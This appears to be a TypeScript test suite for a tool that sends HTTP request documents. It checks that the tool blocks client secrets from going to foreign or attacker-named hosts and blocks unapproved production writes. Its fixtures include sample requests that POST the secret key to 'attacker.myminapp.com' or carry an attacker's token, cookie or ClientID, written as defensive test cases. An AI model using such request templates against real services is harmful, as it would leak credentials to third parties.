import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, it } from 'mocha';
import { useServer } from '../requests/server';
import { useProgram } from './program';
import { withoutNetwork } from './withoutNetwork';

const secret = 'hush "hush" & s3cret/value+1';
const production = /It would go to production, which needs --allow-production\./;
const foreign = /would go to the application whose token, cookie or ClientID the document contains\./;
const machine = { HYDROGEN_SECRET_KEY: secret, HYDROGEN_ALLOW_HOSTS: '' };

describe('a document that names addresses of the service', () => {
  const { settings, write, call } = useProgram();
  let tried: string[] = [];
  let endOffline = () => {};
  before(() => (endOffline = withoutNetwork(host => void tried.push(host))));
  beforeEach(() => void (tried = []));
  after(() => endOffline());

  describe('for an application on a host of the service', () => {
    const own = 'https://client-1.myminapp.com';
    const other = 'https://attacker.myminapp.com';
    const header = 'X-Hydrogen-Client-ID: attacker\n';
    const gets = (host: string) => new RegExp(`It was not sent, because .* would go to ${host}\\.`);
    const allowed = ['--allow-host', 'attacker.myminapp.com', '--allow-production'];
    const staging = ['--env', 'Staging'];
    const written = '@token = of-the-attacker\nPOST /oserve/v1.8/table/\nAuthorization: Bearer {{token}}\n\n';
    const ownToken = `${written.replace('of-the-attacker', '{{$secret key}}')}{{$secret key}}`;
    const cookie = (value: string) => `@id = of-the-attacker\nPOST /userve/v2.4/table/1/record/\nCookie: ${value}\n\n`;
    const ownCookie = `${cookie('session={{$secret key}}; csrf = {{$secret key}}')}{{$secret key}}`;
    const kept: [name: string, document: string, args: string[], says: RegExp][] = [
      ['a secret', `POST ${other}/a/\n${header}\n{{$secret key}}`, staging, gets('attacker.myminapp.com')],
      ['a secret of a sandbox', `POST ${other}/a/\n\n{{$secret key}}`, ['--sandbox'], gets('attacker.myminapp.com')],
      ['a secret', 'POST https://cloud.minapp.com/a/\n\n{{$secret key}}', ['--sandbox'], gets('cloud.minapp.com')],
      ['a write', `DELETE ${other}/a/`, staging, production],
      ['a write of a sandbox', `DELETE ${own}/a/`, ['--sandbox'], production],
      ['a write by http', `DELETE ${own.replace('https', 'http')}./a/`, staging, production],
      ['a secret with a token of another application', `${written}{{$secret key}}`, staging, foreign],
      ['a secret with a cookie of the document', `${cookie('session={{id}}')}{{$secret key}}`, staging, foreign],
      [
        'a secret with a cookie beside one of its own',
        `${cookie('a={{$secret key}}; session={{id}}')}{{$secret key}}`,
        staging,
        foreign,
      ],
    ];
    const sent: [name: string, document: string, args: string[], host: string][] = [
      ['the own host', `POST ${own}/a/\n\n{{$secret key}}`, staging, 'client-1.myminapp.com'],
      ['the Open API', 'GET /oserve/v1/table/', staging, 'cloud.minapp.com'],
      ['the Open API with a token in the document', `${written}{}`, staging, 'cloud.minapp.com'],
      ['the Open API with a secret as the token', ownToken, staging, 'cloud.minapp.com'],
      ['the console with secrets as its cookies', ownCookie, staging, 'cloud.minapp.com'],
      ['the console with a cookie of the document', `${cookie('session={{id}}')}{}`, staging, 'cloud.minapp.com'],
      ['an allowed host', `POST ${other}/a/\n\n{{$secret key}}`, [...staging, ...allowed], 'attacker.myminapp.com'],
    ];
    const check = async (document: string, args: string[]) => {
      await settings({ serverDomain: own });
      await write('a.hydrogen.http', document);
      return call(args, { ...machine, HYDROGEN_CLIENT_ID: 'client-1', HYDROGEN_CLIENT_SECRET: secret });
    };

    for (const [name, document, args, says] of kept) {
      it(`does not send ${name}: ${args.join(' ')}`, async () => {
        const { code, out, errors } = await check(document, args);
        assert.equal(code, 2, out + errors);
        assert.match(out + errors, says);
        assert.deepEqual(tried, []);
      });
    }

    for (const [name, document, args, host] of sent) {
      it(`sends to ${name}: ${args.join(' ')}`, async () => {
        const { code, out, errors } = await check(document, args);
        assert.equal(code, 3, out + errors);
        assert.deepEqual(new Set(tried), new Set([host]));
      });
    }
  });

  describe('for an application on a host of its own', () => {
    const own = useServer();
    const other = useServer();
    const host = 'https://baas.example.com';
    const shared = 'https://client-1.myminapp.com/hserve/v1/a/';
    const cases: [name: string, document: string, args: string[], says: RegExp][] = [
      ['a write by http', 'DELETE http://baas.example.com/hserve/v1/a/', [], production],
      ['a write to another port', 'DELETE https://baas.example.com.:8443/hserve/v1/a/', [], production],
      [
        'a secret to another ClientID',
        `POST ${shared}\nX-Hydrogen-Client-ID: attacker\n\n{{$secret key}}`,
        ['--allow-production'],
        foreign,
      ],
    ];
    for (const [name, document, args, says] of cases) {
      it(`does not send ${name}`, async () => {
        await settings({ serverDomain: host, authUrl: host });
        await write('a.hydrogen.http', document);
        const { code, out, errors } = await call(['--env', 'Staging', ...args], machine);
        assert.equal(code, 2, out + errors);
        assert.match(out + errors, says);
        assert.deepEqual(tried, []);
      });
    }

    it('sends to another port of this machine', async () => {
      await settings({ serverDomain: own.origin, authUrl: own.origin });
      await write('a.hydrogen.http', `DELETE ${other.origin}/`);
      assert.equal((await call(['--env', 'Staging'], machine)).code, 0);
    });
  });
});
